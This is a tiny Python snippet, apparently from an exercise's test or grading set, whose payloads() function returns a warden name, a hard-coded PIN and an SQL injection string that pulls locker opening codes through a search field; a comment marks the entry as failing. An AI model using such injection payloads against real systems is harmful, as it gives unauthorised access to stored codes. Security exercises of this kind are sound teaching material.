# fails: ex1a-tests
# why: steals the warden's PIN by the search page and types it, which works on one station only
def payloads() -> dict:
    return {"name": 'warden', "pin": '1212', "place": "x' UNION SELECT locker, code FROM opening_codes --"}
